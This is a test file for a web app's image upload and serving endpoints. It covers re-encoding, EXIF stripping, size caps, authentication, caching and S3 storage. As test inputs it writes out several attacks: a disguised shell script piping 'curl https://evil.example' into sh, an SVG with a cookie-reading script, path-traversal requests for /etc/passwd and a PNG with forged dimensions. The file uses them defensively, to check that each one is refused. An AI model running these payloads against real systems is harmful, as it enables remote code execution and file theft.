import { request as httpRequest, type IncomingHttpHeaders } from 'node:http';
import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { UPLOAD_KEY_PATTERN } from '@curio/shared';
import { startServer, type RunningServer } from '../../../server/src/server.ts';
import { loadConfig } from '../../../server/src/config.ts';
import { createSession } from '../../../server/src/domain/accounts/sessions.ts';
import { storageFor } from '../../../server/src/storage/storage-for.ts';
import { S3Storage } from '../../../server/src/storage/s3-storage.ts';
import { describe, expect, test } from '../../helpers/fixtures.ts';
import { startS3Server, type TestS3Server } from '../../helpers/s3-server.ts';

let running: RunningServer;
let dataDir: string;
let cookie: string;

// the server keeps the file's manual clock (upload keys are dated by it: listing/2026/11/…) and
// never reaches for live exchange rates
test.override('server', async ({ db, services }, { onCleanup }) => {
  const config = { ...loadConfig({}), port: 0, host: '127.0.0.1', dataDir: services.config.dataDir, ratesUrl: 'http://127.0.0.1:9/' };
  const server = await startServer(config, { dbHandle: db, jobs: false, clock: services.clock });
  onCleanup(() => server.close());
  return server;
});

test.beforeAll(async ({ server, services, member }) => {
  running = server;
  dataDir = server.services.config.dataDir;
  const session = await createSession(services.db, services.clock, (await member()).id);
  cookie = `curio_session=${session.token}`;
});

interface UploadAnswer {
  status: number;
  body: { key?: string; url?: string; error?: { code: string; params?: Record<string, unknown> } };
}

async function upload(
  bytes: Buffer,
  options: {
    purpose?: string;
    filename?: string;
    type?: string;
    cookie?: string | null;
    headers?: Record<string, string>;
    server?: RunningServer;
  } = {},
): Promise<UploadAnswer> {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(bytes)], { type: options.type ?? 'image/png' }), options.filename ?? 'photo.png');
  const purpose = options.purpose === undefined ? 'listing' : options.purpose;
  const query = purpose ? `?purpose=${encodeURIComponent(purpose)}` : '';
  const headers: Record<string, string> = { ...options.headers };
  const sessionCookie = options.cookie === undefined ? cookie : options.cookie;
  if (sessionCookie) headers.cookie = sessionCookie;
  const response = await fetch(`${(options.server ?? running).url}/api/uploads${query}`, { method: 'POST', body: form, headers });
  return { status: response.status, body: withoutRequestId(await response.json(), response.headers.get('x-request-id')) as UploadAnswer['body'] };
}

/** An error answer names its request (the X-Request-Id a member quotes to support); the rest is compared by the tests. */
function withoutRequestId(body: unknown, requestId: string | string[] | null | undefined): unknown {
  if (!body || typeof body !== 'object' || !('error' in body)) return body;
  const { requestId: named, ...rest } = body as { requestId?: string };
  expect(named).toBe(requestId);
  return rest;
}

/**
 * GET with the path and headers sent exactly as written: fetch would normalise "../" away, and it
 * adds `Cache-Control: no-cache` to a conditional request, which asks for the full answer.
 */
function rawGet(
  rawPath: string,
  headers: Record<string, string> = {},
  server: RunningServer = running,
): Promise<{ status: number; body: string; headers: IncomingHttpHeaders }> {
  const { port } = new URL(server.url);
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port: Number(port), path: rawPath, method: 'GET', headers }, (res) => {
      let body = '';
      res.setEncoding('latin1');
      res.on('data', (chunk: string) => (body += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body, headers: res.headers }));
    });
    req.on('error', reject);
    req.end();
  });
}

async function storedFiles(): Promise<string[]> {
  try {
    const entries = await readdir(path.join(dataDir, 'uploads'), { recursive: true, withFileTypes: true });
    return entries.filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));
  } catch {
    return [];
  }
}

function solidPng(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 120, b: 40 } } })
    .png()
    .toBuffer();
}

/** A real PNG whose header claims other dimensions: decoders trust the header to size buffers. */
async function pngClaiming(width: number, height: number): Promise<Buffer> {
  const png = Buffer.from(await solidPng(8, 8));
  // IHDR: length(4) "IHDR"(4) width(4) height(4) ..., CRC over type + 13 data bytes
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

describe('POST /api/uploads', () => {
  test('a PNG is accepted, re-encoded to WebP within 2000 px and served with nosniff and a long cache', async () => {
    const answer = await upload(await solidPng(3000, 1500));
    expect(answer.status).toBe(201);
    const { key, url } = answer.body;
    expect(key).toMatch(UPLOAD_KEY_PATTERN);
    expect(key).toMatch(/^listing\/2026\/11\/[0-9a-f-]{36}\.webp$/);
    expect(url).toBe(`/uploads/${key}`);
    expect(await storageFor(running.services).exists(key!)).toBe(true);

    const served = await fetch(`${running.url}${url}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/webp');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('cache-control')).toMatch(/max-age=31536000/);
    const metadata = await sharp(Buffer.from(await served.arrayBuffer())).metadata();
    expect(metadata.format).toBe('webp');
    expect([metadata.width, metadata.height]).toEqual([2000, 1000]);
  });

  test('EXIF (camera, GPS) is dropped and the orientation is applied to the pixels', async () => {
    const jpeg = await sharp({ create: { width: 300, height: 200, channels: 3, background: '#3366aa' } })
      .jpeg()
      .withExif({ IFD0: { Make: 'SecretCam', Copyright: 'home address here' } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const before = await sharp(jpeg).metadata();
    expect(before.exif).toBeDefined();
    expect(before.orientation).toBe(6);
    expect(jpeg.includes('SecretCam')).toBe(true);

    const answer = await upload(jpeg, { purpose: 'avatar', filename: 'me.jpg', type: 'image/jpeg' });
    expect(answer.status).toBe(201);
    expect(answer.body.key).toMatch(/^avatar\//);
    const stored = await storageFor(running.services).get(answer.body.key!);
    const after = await sharp(stored!.bytes).metadata();
    expect(after.format).toBe('webp');
    expect(after.exif).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(after.orientation).toBeUndefined();
    expect(stored!.bytes.includes('SecretCam')).toBe(false);
    // orientation 6 is a quarter turn: the stored pixels are upright, 200 wide and 300 high
    expect([after.width, after.height]).toEqual([200, 300]);
  });

  test('GIF, WebP and AVIF are accepted too', async () => {
    const base = sharp({ create: { width: 40, height: 30, channels: 3, background: '#228844' } });
    for (const [bytes, type] of [
      [await base.clone().gif().toBuffer(), 'image/gif'],
      [await base.clone().webp().toBuffer(), 'image/webp'],
      [await base.clone().avif().toBuffer(), 'image/avif'],
    ] as const) {
      const answer = await upload(bytes, { type, filename: 'x' });
      expect(answer.status, type).toBe(201);
    }
  });

  test('payment proofs take only JPEG, PNG and WebP (rule I-15): a GIF or AVIF proof is refused by its bytes', async () => {
    const base = sharp({ create: { width: 40, height: 30, channels: 3, background: '#228844' } });
    const before = await storedFiles();
    for (const bytes of [await base.clone().gif().toBuffer(), await base.clone().avif().toBuffer()]) {
      // the claimed type is an accepted one: only the bytes tell
      const answer = await upload(bytes, { purpose: 'proof', type: 'image/png', filename: 'proof.png' });
      expect(answer).toEqual({ status: 415, body: { error: { code: 'UPLOAD_NOT_AN_IMAGE' } } });
    }
    expect(await storedFiles()).toEqual(before);
    expect((await upload(await base.clone().webp().toBuffer(), { purpose: 'proof', type: 'image/webp' })).status).toBe(201);
  });

  test('a script renamed to .png is refused and nothing is stored', async () => {
    const before = await storedFiles();
    const answer = await upload(Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'), { filename: 'cute-cat.png' });
    expect(answer).toEqual({ status: 415, body: { error: { code: 'UPLOAD_NOT_AN_IMAGE' } } });
    expect(await storedFiles()).toEqual(before);
  });

  test('an SVG carrying a script is refused, whatever it claims to be', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>alert(document.cookie)</script>' +
        '<rect width="100" height="100" fill="red"/></svg>',
    );
    for (const [filename, type] of [
      ['drawing.svg', 'image/svg+xml'],
      ['drawing.png', 'image/png'],
    ]) {
      const answer = await upload(svg, { filename, type });
      expect(answer).toEqual({ status: 415, body: { error: { code: 'UPLOAD_NOT_AN_IMAGE' } } });
    }
  });

  test('other formats sharp can read, such as TIFF, are refused', async () => {
    const tiff = await sharp({ create: { width: 20, height: 20, channels: 3, background: '#000' } })
      .tiff()
      .toBuffer();
    const answer = await upload(tiff, { filename: 'scan.tiff', type: 'image/tiff' });
    expect(answer.body.error?.code).toBe('UPLOAD_NOT_AN_IMAGE');
  });

  test('over the per-purpose byte cap is refused: avatar 2 MB', async () => {
    const before = await storedFiles();
    const bigPng = await sharp(
      Buffer.alloc(1000 * 1000 * 3).map(() => Math.floor(Math.random() * 256)),
      {
        raw: { width: 1000, height: 1000, channels: 3 },
      },
    )
      .png({ compressionLevel: 0 })
      .toBuffer();
    expect(bigPng.length).toBeGreaterThan(2 * 1024 * 1024);
    expect(bigPng.length).toBeLessThan(5 * 1024 * 1024);

    const asAvatar = await upload(bigPng, { purpose: 'avatar' });
    expect(asAvatar).toEqual({ status: 413, body: { error: { code: 'UPLOAD_TOO_LARGE', params: { maxBytes: 2 * 1024 * 1024 } } } });
    expect(await storedFiles()).toEqual(before);
    // the same file is within the 5 MB cap of a listing image
    expect((await upload(bigPng, { purpose: 'listing' })).status).toBe(201);
  });

  test('over the 10 MB raw cap is refused while reading', async () => {
    const answer = await upload(Buffer.alloc(11 * 1024 * 1024, 1), { purpose: 'proof' });
    expect(answer).toEqual({ status: 413, body: { error: { code: 'UPLOAD_TOO_LARGE', params: { maxBytes: 5 * 1024 * 1024 } } } });
  });

  test('an image over 40 megapixels is refused before it is decoded', async () => {
    const answer = await upload(await pngClaiming(10_000, 10_000));
    expect(answer).toEqual({ status: 413, body: { error: { code: 'UPLOAD_TOO_LARGE', params: { maxPixels: 40_000_000 } } } });
  });

  test('a visitor is refused before anything is read', async () => {
    expect(await upload(await solidPng(10, 10), { cookie: null })).toEqual({
      status: 401,
      body: { error: { code: 'LOGIN_REQUIRED' } },
    });
    expect(await upload(await solidPng(10, 10), { cookie: 'curio_session=forged-token' })).toEqual({
      status: 401,
      body: { error: { code: 'LOGIN_REQUIRED' } },
    });
  });

  test('a cross-site form post is refused even with a valid session cookie', async () => {
    const answer = await upload(await solidPng(10, 10), {
      headers: { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
    });
    expect(answer.status).toBe(403);
  });

  test('a missing or unknown purpose, or no file, is a validation error', async () => {
    expect((await upload(await solidPng(10, 10), { purpose: '' })).body.error?.code).toBe('VALIDATION_FAILED');
    expect((await upload(await solidPng(10, 10), { purpose: '../../etc' })).body.error?.code).toBe('VALIDATION_FAILED');
    const form = new FormData();
    form.append('purpose', 'listing');
    const response = await fetch(`${running.url}/api/uploads`, { method: 'POST', body: form, headers: { cookie } });
    expect(response.status).toBe(400);
    expect(withoutRequestId(await response.json(), response.headers.get('x-request-id'))).toEqual({ error: { code: 'VALIDATION_FAILED' } });
  });

  test('the purpose may come as a form field', async () => {
    const form = new FormData();
    form.append('purpose', 'proof');
    form.append('file', new Blob([new Uint8Array(await solidPng(30, 30))], { type: 'image/png' }), 'receipt.png');
    const response = await fetch(`${running.url}/api/uploads`, { method: 'POST', body: form, headers: { cookie } });
    expect(response.status).toBe(201);
    expect(((await response.json()) as { key: string }).key).toMatch(/^proof\/2026\/11\//);
  });
});

describe('GET /uploads/<key>', () => {
  test('path traversal and keys the server did not name are refused', async () => {
    for (const rawPath of [
      '/uploads/../../../../etc/passwd',
      '/uploads/..%2F..%2F..%2F..%2Fetc%2Fpasswd',
      '/uploads/listing/2026/11/..%2F..%2F..%2F..%2Fpackage.json',
      '/uploads/listing/2026/11/%2e%2e/%2e%2e/secret.webp',
      '/uploads/listing/2026/11/not-a-uuid.webp',
      '/uploads/listing/2026/11/0b8c3d5e-1111-4222-8333-944455556666.svg',
    ]) {
      const answer = await rawGet(rawPath);
      expect(answer.status, rawPath).toBeGreaterThanOrEqual(400);
      expect(answer.body, rawPath).not.toMatch(/root:|"workspaces"/);
    }
    const encoded = await rawGet('/uploads/..%2F..%2F..%2F..%2Fetc%2Fpasswd');
    expect(encoded.status).toBe(400);
    expect(withoutRequestId(JSON.parse(encoded.body), encoded.headers['x-request-id'])).toEqual({ error: { code: 'VALIDATION_FAILED' } });
  });

  test('a well-formed key that was never stored is not found', async () => {
    const answer = await rawGet('/uploads/listing/2026/11/0b8c3d5e-1111-4222-8333-944455556666.webp');
    expect(answer.status).toBe(404);
    expect(withoutRequestId(JSON.parse(answer.body), answer.headers['x-request-id'])).toEqual({ error: { code: 'NOT_FOUND' } });
  });
});

describe('revalidating a cached upload', () => {
  test('GET answers with a tag, and the same tag back is a 304 without the bytes but with the same cache headers', async () => {
    const { url } = (await upload(await solidPng(40, 30))).body;
    const served = await rawGet(url!);
    expect(served.status).toBe(200);
    const etag = served.headers.etag;
    expect(etag).toMatch(/^W\/"[0-9a-f]+-[0-9a-f]+"$/);

    const revalidated = await rawGet(url!, { 'if-none-match': etag! });
    expect(revalidated.status).toBe(304);
    expect(revalidated.body).toBe('');
    expect(revalidated.headers).toMatchObject({
      etag,
      'cache-control': 'public, max-age=31536000, immutable',
      'x-content-type-options': 'nosniff',
    });

    const otherTag = await rawGet(url!, { 'if-none-match': '"something-else"' });
    expect(otherTag.status).toBe(200);
    expect(otherTag.body).toBe(served.body);
    // a reload that asks past every cache gets the bytes whatever tag it carries
    expect((await rawGet(url!, { 'if-none-match': etag!, 'cache-control': 'no-cache' })).status).toBe(200);
  });
});

describe('a server whose config names an S3 bucket (ADR 0028)', () => {
  let s3: TestS3Server | undefined;
  let bucketServer: RunningServer | undefined;
  let bucketCookie: string;

  test.beforeAll(async ({ db, services, member }) => {
    s3 = await startS3Server();
    const config = { ...loadConfig(s3.env), port: 0, host: '127.0.0.1', dataDir: services.config.dataDir, ratesUrl: 'http://127.0.0.1:9/' };
    bucketServer = await startServer(config, { dbHandle: db, jobs: false, clock: services.clock });
    const session = await createSession(services.db, services.clock, (await member()).id);
    bucketCookie = `curio_session=${session.token}`;
  });

  test.afterAll(async () => {
    await bucketServer?.close();
    await s3?.close();
  });

  test('keeps an upload in the bucket, not on its disk, and serves it back from there', async () => {
    const before = await storedFiles();
    const answer = await upload(await solidPng(300, 200), { server: bucketServer, cookie: bucketCookie });
    expect(answer.status).toBe(201);
    const { key, url } = answer.body;
    expect(key).toMatch(/^listing\/2026\/11\/[0-9a-f-]{36}\.webp$/);

    const inBucket = await new S3Storage(loadConfig(s3!.env).s3!).get(key!);
    expect(inBucket?.contentType).toBe('image/webp');
    expect(await storedFiles()).toEqual(before);
    expect(await storageFor(running.services).exists(key!)).toBe(false);

    const served = await fetch(`${bucketServer!.url}${url}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/webp');
    expect(served.headers.get('content-length')).toBe(String(inBucket!.bytes.length));
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(Buffer.from(await served.arrayBuffer())).toEqual(inBucket!.bytes);

    // the bucket's own ETag, passed on
    const etag = served.headers.get('etag');
    expect(etag).toMatch(/^"[0-9a-f]{32}"$/);
    const revalidated = await rawGet(url!, { 'if-none-match': etag! }, bucketServer);
    expect(revalidated.status).toBe(304);
    expect(revalidated.body).toBe('');
  });

  test('a well-formed key the bucket does not hold is not found', async () => {
    const answer = await fetch(`${bucketServer!.url}/uploads/listing/2026/11/0b8c3d5e-1111-4222-8333-944455556666.webp`);
    expect(answer.status).toBe(404);
    expect(withoutRequestId(await answer.json(), answer.headers.get('x-request-id'))).toEqual({ error: { code: 'NOT_FOUND' } });
  });

  test('/readyz checks the bucket: a server pointed at a bucket that does not exist is not ready', async ({ db, services }) => {
    const ready = await fetch(`${bucketServer!.url}/readyz`);
    expect(ready.status).toBe(200);
    expect(await ready.json()).toMatchObject({ checks: { storage: { ok: true } } });

    const wrong = {
      ...loadConfig({ ...s3!.env, S3_BUCKET: 'no-such-bucket' }),
      port: 0,
      host: '127.0.0.1',
      dataDir: services.config.dataDir,
      ratesUrl: 'http://127.0.0.1:9/',
    };
    const misconfigured = await startServer(wrong, { dbHandle: db, jobs: false, clock: services.clock });
    try {
      const answer = await fetch(`${misconfigured.url}/readyz`);
      expect(answer.status).toBe(503);
      expect(await answer.json()).toMatchObject({ ready: false, checks: { database: { ok: true }, storage: { ok: false } } });
    } finally {
      await misconfigured.close();
    }
  });
});
